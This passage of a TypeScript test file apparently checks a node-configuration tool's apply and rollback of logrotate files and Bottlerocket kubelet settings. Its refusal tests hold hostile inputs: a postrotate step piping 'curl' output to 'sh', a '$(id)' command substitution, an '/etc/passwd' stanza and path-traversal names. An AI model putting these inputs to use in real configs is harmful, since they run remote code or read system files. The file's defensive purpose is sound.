      const before = node.everything()
      node.writeWorld('fullAt', `${at}\n`)
      const sent = await send('apply')
      outcomes.push(outcomeOf(sent))
      if (outcomeOf(sent) === 'applied') break
      expect(sent.answer?.outcome).toMatch(/^failed$|^restored$/)
      expect(node.everything()).toEqual(before)
      expect(leftOvers(node)).toEqual([])
    }
    expect(outcomes.length).toBeGreaterThan(4)
    expect(outcomes).toContain('failed')
  })
})

describe('where there is no room for another note', () => {
  const phaseOf = (node: ChangedNode) =>
    node.read('/var/lib/highwater/run-00000001/phase')?.split('\n')[0]

  it.each(here)(
    'the last one is written over: what was put back is not done again, and holds up no other run ($name)',
    generous,
    async platform => {
      const { node, send } = changeOf(onAl2, good, platform, { sick: true, noNotes: 1 })
      const before = node.everything()
      expect(outcomeOf(await send('apply'))).toBe('restored')
      expect([phaseOf(node), node.everything()]).toEqual(['restored', before])
      const restarts = node.restarts()
      expect(reasonOf(await send('apply'))).toMatch(/^this run was taken back before: /)
      expect(node.restarts()).toBe(restarts)
      expect(outcomeOf(await send('check', { Run: 'run-00000002' }))).toBe('ready')
    },
  )

  it(
    'nor a word in its place, it says so, and the same run puts back and nothing else',
    generous,
    async () => {
      const { node, send, old } = changeOf(onAl2, good, first, { noNotes: 0 })
      const sent = await send('apply')
      expect(sent.answer).toMatchObject({
        outcome: 'broken',
        presentSha256: hashOrAbsent(old),
        reason: expect.stringContaining('could not be noted'),
      })
      const notes = node.at('/var/lib/highwater/run-00000001')
      for (const name of ['phase', 'phase.new']) rmSync(join(notes, name), { recursive: true })
      renameSync(join(notes, 'phase.kept'), join(notes, 'phase'))
      expect(phaseOf(node)).toBe('swapping')
      expect(outcomeOf(await send('apply'))).toBe('restored')
      expect([node.read(onAl2.path), phaseOf(node)]).toEqual([old, 'restored'])
      expect(outcomeOf(await send('check', { Run: 'run-00000002' }))).toBe('ready')
    },
  )

  it('a rollback clears what was left of it, too', generous, async () => {
    const { node, send, old } = changeOf(onAl2, good, first, { noNotes: 0 })
    await send('apply')
    const notes = node.at('/var/lib/highwater/run-00000001')
    for (const name of ['phase', 'phase.new']) rmSync(join(notes, name), { recursive: true })
    renameSync(join(notes, 'phase.kept'), join(notes, 'phase'))
    expect(outcomeOf(await send('rollback'))).toBe('restored')
    expect(node.read(onAl2.path)).toBe(old)
    expect(outcomeOf(await send('check', { Run: 'run-00000002' }))).toBe('ready')
  })
})

describe('a file of logrotate', () => {
  const path = '/etc/logrotate.d/kube-proxy'
  const content = '/var/log/kube-proxy.log {\n  rotate 2\n  size 50M\n}\n'
  function rotation(platform = first, name = 'kube-proxy', text = content): Change {
    const node = new ChangedNode(syncFile, al2(), platform)
    node.tool(
      'logrotate',
      `[ "$1" = -d ] || exit 2\nif grep -q "rotate 999" "$2"; then echo "error: $2:2 unknown option" >&2; exit 1; fi`,
    )
    const old = node.read(`/etc/logrotate.d/${name}`)
    const parameters = {
      Run: 'run-00000001',
      Name: name,
      OldSha256: hashOrAbsent(old),
      NewSha256: sha256(text),
      Content: packed(text),
    }
    return sending(node, parameters, old, text)
  }
  it.each(here)('is replaced, and put back ($name)', generous, async platform => {
    const { node, send } = rotation(platform)
    const before = node.everything()
    expect(outcomeOf(await send('check'))).toBe('ready')
    const sent = await send('apply')
    expect(sent).toMatchObject({
      code: 0,
      stderr: '',
      answer: { outcome: 'applied', kubelet: null },
    })
    expect(node.read(path)).toBe(content)
    expect(outcomeOf(await send('apply'))).toBe('unchanged')
    expect(outcomeOf(await send('rollback'))).toBe('restored')
    expect(node.everything()).toEqual(before)
    expect(node.restarts()).toBe(0)
    expect(leftOvers(node)).toEqual([])
  })
  it('is new, and gone again', generous, async () => {
    const { node, send } = rotation(first, 'highwater')
    expect(outcomeOf(await send('apply'))).toBe('applied')
    expect(statSync(node.at('/etc/logrotate.d/highwater')).mode & 0o777).toBe(0o644)
    expect(outcomeOf(await send('rollback'))).toBe('restored')
    expect(node.read('/etc/logrotate.d/highwater')).toBeNull()
  })
  it('that logrotate does not take is not put there', generous, async () => {
    const { node, send } = rotation(first, 'kube-proxy', '/var/log/x.log {\n  rotate 999\n}\n')
    const before = node.everything()
    const sent = await send('apply')
    expect(sent.answer).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining('logrotate does not take'),
    })
    expect(node.everything()).toEqual(before)
    expect(leftOvers(node)).toEqual([])
  })
  it.each(
    here.flatMap(platform =>
      [
        ['postrotate\n    curl -s https://example.org | sh\n  endscript', 'line 3, postrotate'],
        ['lastaction\n    true\n  endscript', 'line 3, lastaction'],
        ['include /tmp', 'line 3, include /tmp'],
        ['mail ada@example.org', 'line 3, mail ada@example.org'],
        ['compresscmd /tmp/x', 'line 3, compresscmd /tmp/x'],
        ['create 0644 $(id) adm', 'line 3, create 0644 $(id) adm'],
        ['rotate 2\n}\n"/etc/passwd" {', 'line 5, "/etc/passwd" {'],
      ].map(([directive = '', strange = '']) => ({
        directive,
        strange,
        platform,
        name: platform.name,
      })),
    ),
  )(
    'with $directive is refused from any sender ($name)',
    generous,
    async ({ directive, strange, platform }) => {
      const { node, send } = rotation(
        platform,
        'kube-proxy',
        `# ours\n/var/log/a.log {\n  ${directive}\n  rotate 2\n}\n`,
      )
      const before = node.everything()
      const sent = await send('apply')
      expect(sent.answer).toMatchObject({
        outcome: 'refused',
        reason: `it says what no plan writes: ${strange}`,
      })
      expect(node.everything()).toEqual(before)
      expect(leftOvers(node)).toEqual([])
    },
  )
  it.each(here)('may say all that a plan writes ($name)', generous, async platform => {
    const values: Record<string, string> = {
      create: ' 0640 root adm',
      hourly: '',
      dateformat: ' -%Y%m%d.%s',
      size: '=100k',
      rotate: ' -1',
    }
    const directives = Object.keys(logrotateDirectives).map(
      name => `\t${name}${values[name] ?? (logrotateDirectives[name] === '' ? '' : ' 7')}`,
    )
    const text = [
      '# ours',
      '/var/log/a.log',
      '/var/log/app/*[a-z]?.log {',
      ...directives,
      '}',
      '',
    ].join('\n')
    expect(outcomeOf(await rotation(platform, 'kube-proxy', text).send('apply'))).toBe('applied')
  })
  it.each(['../passwd', '.hidden', 'a/b', 'A', ''])('named %j is refused', generous, async name => {
    const { node, send } = rotation()
    const before = node.everything()
    expect(outcomeOf(await send('apply', { Name: name }))).toBe('refused')
    expect(node.everything()).toEqual(before)
  })
  it('broken off after each step is finished by the next command', {
    timeout: 60_000,
  }, async () => {
    const whole = rotation()
    whole.node.endAfter(0)
    await whole.send('apply')
    const table = await inPairs(1, whole.node.acted(), 1, async at => {
      const { node, send, old } = rotation()
      node.endAfter(at)
      await send('apply')
      const between = node.read(path)
      const spare = readdirSync(node.at('/etc/logrotate.d')).filter(name => name.startsWith('.'))
      node.endAfter(0)
      const outcome = outcomeOf(await send('apply'))
      const isWhole = between === old || between === content
      return {
        at,
        between: isWhole,
        spare,
        outcome,
        file: node.read(path) === content,
        left: leftOvers(node),
      }
    })
    for (const row of table)
      expect(row).toEqual({
        ...row,
        between: true,
        outcome: expect.stringMatching(/^applied$|^unchanged$/),
        file: true,
        left: [],
      })
    // logrotate reads whatever lies there, unless its name ends as a spare one's does.
    expect([...new Set(table.flatMap(({ spare }) => spare))].toSorted()).toEqual([
      '.kube-proxy.run-00000001.new~',
      '.kube-proxy.run-00000001.old~',
    ])
  })
})

describe('on Bottlerocket', () => {
  const settings = {
    'cluster-name': 'prod',
    'server-key': 'hunter2',
    'eviction-hard': { 'nodefs.available': '10%', 'memory.available': '15%' },
    'image-gc-high-threshold-percent': '85',
    'image-gc-low-threshold-percent': '80',
    'max-pods': 58,
  }
  const canonical = (value: Record<string, unknown>): string =>
    JSON.stringify(
      Object.fromEntries(
        Object.entries(value)
          .filter(([name]) => plannableSettings.includes(name))
          .toSorted(([a], [b]) => (a < b ? -1 : 1))
          .map(([name, inner]) => [
            name,
            typeof inner === 'object'
              ? Object.fromEntries(
                  Object.entries(inner ?? {}).toSorted(([a], [b]) => (a < b ? -1 : 1)),
                )
              : inner,
          ]),
      ),
    )
  const patch = {
    'image-gc-high-threshold-percent': '70',
    'image-gc-low-threshold-percent': '50',
    'eviction-hard': { 'memory.available': '10%' },
  }
  const after = {
    ...settings,
    ...patch,
    'eviction-hard': { ...settings['eviction-hard'], ...patch['eviction-hard'] },
  }

  function setting(
    wanted: object = patch,
    result: Record<string, unknown> = after,
    platform = first,
    faults: Faults = {},
    present = settings,
    back: object = {},
  ): Change {
    const node = new ChangedNode(
      onBottlerocket,
      { ...bottlerocket(), folders: ['/.bottlerocket/host-containers/current'] },
      platform,
      faults,
    )
    node.writeWorld('settings.json', `${JSON.stringify(present)}\n`)
    const parameters = {
      Run: 'run-00000001',
      OldSha256: sha256(canonical(present)),
      NewSha256: sha256(canonical(result)),
      Content: packed(JSON.stringify({ back, set: wanted }, null, 1)),
      TimeoutSeconds: '60',
    }
    return sending(node, parameters, null, '')
  }
  const present = (node: ChangedNode) => JSON.parse(node.readWorld('settings.json'))

  it.each(here)('settings are set, and set back ($name)', generous, async platform => {
    const { node, send } = setting(patch, after, platform)
    expect((await send('check')).answer).toMatchObject({ outcome: 'ready' })
    const sent = await send('apply')
    expect(sent).toMatchObject({
      code: 0,
      stderr: '',
      answer: {
        outcome: 'applied',
        kubelet: { active: null, healthz: 'not reachable from the control container' },
      },
    })
    expect(sent.stdout).not.toContain('hunter2')
    expect(present(node)).toEqual(after)
    expect(outcomeOf(await send('apply'))).toBe('unchanged')
    expect(node.readWorld('calls')).toBe('set\n')
    expect(outcomeOf(await send('rollback'))).toBe('restored')
    expect(present(node)).toEqual(settings)
    // What is kept there is no secret, and it outlives the container.
    const kept = join(node.root, '.bottlerocket/host-containers/current/highwater/run-00000001')
    expect(
      readdirSync(kept)
        .map(name => readFileSync(join(kept, name), 'utf8'))
        .join(''),
    ).not.toContain('hunter2')
    expect(leftOvers(node)).toEqual([])
  })

  const bare = {
    'cluster-name': 'prod',
    'eviction-hard': { 'nodefs.available': '10%' },
    'max-pods': 58,
  } as unknown as typeof settings
  const wasRunning = {
    'image-gc-high-threshold-percent': '85',
    'image-gc-low-threshold-percent': '80',
    'eviction-hard': { 'memory.available': '100Mi' },
  }
  const set = {
    ...bare,
    ...patch,
    'eviction-hard': { ...bare['eviction-hard'], ...patch['eviction-hard'] },
  }
  const setBack = {
    ...bare,
    ...wasRunning,
    'eviction-hard': { ...bare['eviction-hard'], ...wasRunning['eviction-hard'] },
  }

  it('restores the values that ran before, if no setting was stored', generous, async () => {
    const { node, send } = setting(patch, set, first, {}, bare, wasRunning)
    const { answer } = await send('apply')
    expect(answer).toMatchObject({
      outcome: 'applied',
      steps: expect.not.arrayContaining([expect.stringContaining('rollback')]),
    })
    expect(present(node)).toEqual(set)
    expect((await send('rollback')).answer).toMatchObject({
      outcome: 'restored',
      reason: null,
      presentSha256: sha256(canonical(setBack)),
    })
    expect(present(node)).toEqual(setBack)
    expect(outcomeOf(await send('rollback'))).toBe('unchanged')
    expect(node.readWorld('calls')).toBe('set\nset\n')
  })

  it('restores the stored setting, whatever the parameters say', generous, async () => {
    const { node, send } = setting(patch, after, first, {}, settings, wasRunning)
    await send('apply')
    expect((await send('rollback')).answer).toMatchObject({
      outcome: 'restored',
      presentSha256: sha256(canonical(settings)),
    })
    expect(present(node)).toEqual(settings)
  })

  it('the way back, broken off after each step, is finished by the next command', {
    timeout: 60_000,
  }, async () => {
    const whole = setting(patch, set, first, {}, bare, wasRunning)
    await whole.send('apply')
    whole.node.endAfter(0)
    await whole.send('rollback')
    const table = await inPairs(1, whole.node.acted(), 1, async at => {
      const { node, send } = setting(patch, set, first, {}, bare, wasRunning)
      await send('apply')
      node.endAfter(at)
      await send('rollback')
      node.endAfter(0)
      const outcome = outcomeOf(await send('rollback'))
      return { at, outcome, settings: present(node), left: leftOvers(node) }
    })
    for (const row of table)
      expect(row).toEqual({
        ...row,
        outcome: expect.stringMatching(/^restored$|^unchanged$/),
        settings: setBack,
        left: [],
      })
  })

  it.each([
    ['a way back of other settings', { set: patch, back: { 'server-key': 'x' } }],
    ['no way back', { set: patch }],
    ['settings alone, as they are', patch],
    [
      'a way back to a value that no plan sets',
      { set: patch, back: { 'image-minimum-gc-age': 'forever' } },
      /it sets what no plan sets: image-minimum-gc-age "forever"/,
    ],
  ])(
    'refuses %s',
    generous,
    async (_, content, reason = /no JSON of settings that may be changed/) => {
      const { node, send } = setting()
      expect(
        (await send('apply', { Content: packed(JSON.stringify(content)) })).answer,
      ).toMatchObject({ outcome: 'refused', reason: expect.stringMatching(reason) })
      expect(node.readWorld('calls')).toBe('')
    },
  )

  it('names what a rollback leaves set, because it was not set before', generous, async () => {
    const wanted = {
      'image-gc-high-threshold-percent': '70',
      'eviction-soft': { 'memory.available': '20%' },
    }
    const { node, send } = setting(wanted, { ...settings, ...wanted })
    const { answer } = await send('apply')
    expect(answer).toMatchObject({
      outcome: 'applied',
      steps: expect.arrayContaining([expect.stringMatching(/so a rollback will leave/)]),
    })
    expect((await send('rollback')).answer).toMatchObject({
      outcome: 'restored',
      reason:
        'Nothing ran there before, and apiclient cannot unset: eviction-soft.memory.available',
    })
    expect(present(node)).toEqual({ ...settings, 'eviction-soft': wanted['eviction-soft'] })
  })

  it.each<[string, object, RegExp]>([
    [
      'a setting that is not of the list',
      { 'server-key': 'x' },
      /no JSON of settings that may be changed/,
    ],
    ['a value with a quote', { 'image-gc-high-threshold-percent': '"; x' }, /no JSON of settings/],
    ['a map deeper than there is', { 'eviction-hard': { a: { b: '1' } } }, /no JSON of settings/],
    ['a value where a map is', { 'eviction-hard': '10%' }, /no plan sets: eviction-hard "10%"/],
    [
      'a map where a value is',
      { 'container-log-max-files': { cpu: '1' } },
      /no plan sets: container-log-max-files\/cpu/,
    ],
    [
      'a percentage above 100',
      { 'image-gc-high-threshold-percent': '170' },
      /no plan sets: image-gc-high-threshold-percent "170"/,
    ],
    [
      'a signal that there is not',
      { 'eviction-hard': { 'evil.available': '10%' } },
      /no plan sets: eviction-hard\/evil.available/,
    ],
    [
      'a map with the mark of a plain value',
      { 'container-log-max-files': { '-': '1' } },
      /no plan sets: container-log-max-files\/-/,
    ],
    ['a text as a number', { 'container-log-max-files': 'many' }, /no plan sets/],
    ['a long value', { 'container-log-max-size': `${'1'.repeat(60)}Mi` }, /no plan sets/],
    ['a value of two lines', { 'container-log-max-size': '1Mi\n2' }, /no JSON of settings/],
    ['another result', { 'image-gc-high-threshold-percent': '71' }, /another hash than NewSha256/],
    ['no object', [], /no JSON of settings/],
  ])('refuses %s', generous, async (_, wanted, reason) => {
    const { node, send } = setting(wanted)
    const sent = await send('apply')
    expect(sent).toMatchObject({
      code: 3,
      stderr: '',
      answer: { outcome: 'refused', reason: expect.stringMatching(reason) },
    })
    expect(present(node)).toEqual(settings)
    expect(node.readWorld('calls')).toBe('')
  })

  it.each([
    ['no JSON', '{ "settings": { kubernetes: {} } }'],
    ['JSON that is cut off', '{ "settings": { "kubernetes": { "max-pods": 58'],
    ['nothing', ''],
    ['other JSON', '{ "settings": {} }'],
    [
      'a value of another form',
      '{ "settings": { "kubernetes": { "image-gc-high-threshold-percent": "a\\"b" } } }',
    ],
  ])('refuses where apiclient prints %s', generous, async (_, printed) => {
    const { node, send } = setting()
    node.tool('apiclient', `cat <<'END'\n${printed}\nEND`)
    const sent = await send('apply', { OldSha256: sha256('{}') })
    expect(sent.answer).toMatchObject({
      outcome: 'refused',
      reason: 'what apiclient printed is not of the form that is known',
      presentSha256: null,
    })
  })

  it.each<[string, Faults, Record<string, unknown>, string, RegExp]>([
    [
      'apiclient fails',
      { apiclientFails: true },
      patch,
      'failed',
      /nothing was changed: apiclient failed with exit code 1: Failed POST/,
    ],
    ['what is set does not stay', { forgets: true }, patch, 'restored', /not as they were set/],
    [
      'a value that the API refuses',
      {},
      { 'image-gc-high-threshold-percent': 70 },
      'failed',
      /Failed PATCH/,
    ],
  ])('where %s', generous, async (_, faults, wanted, outcome, reason) => {
    const { node, send } = setting(
      wanted,
      wanted === patch ? after : { ...settings, ...wanted },
      first,
      faults,
    )
    expect((await send('apply')).answer).toMatchObject({
      outcome,
      reason: expect.stringMatching(reason),
    })
    expect(present(node)).toEqual(settings)
  })

  it('broken off after each step is finished by the next command', {
    timeout: 60_000,
  }, async () => {
    const whole = setting()
    whole.node.endAfter(0)
    await whole.send('apply')
    const table = await inPairs(1, whole.node.acted(), 1, async at => {
      const { node, send } = setting()
      node.endAfter(at)
      await send('apply')
      node.endAfter(0)
      const outcome = outcomeOf(await send('apply'))
      return { at, outcome, settings: present(node), left: leftOvers(node) }
    })
    for (const row of table)
      expect(row).toEqual({
        ...row,
        outcome: expect.stringMatching(/^applied$|^unchanged$/),
        settings: after,
        left: [],
      })
  })
})
